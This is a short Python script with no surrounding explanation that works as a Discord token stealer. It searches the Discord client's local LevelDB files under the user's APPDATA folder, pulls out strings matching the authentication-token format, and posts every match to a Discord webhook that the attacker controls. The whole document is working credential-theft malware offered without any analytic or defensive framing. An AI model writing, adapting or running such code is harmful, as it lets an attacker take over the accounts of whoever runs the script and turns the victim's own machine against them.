import os, re, glob, requests
p = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')
found = []
for f in glob.glob(p + '/*.ldb'):
    found += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', open(f, errors='ignore').read())
requests.post('https://discord.com/api/webhooks/1111/abcd', json={'content': '\n'.join(found)})
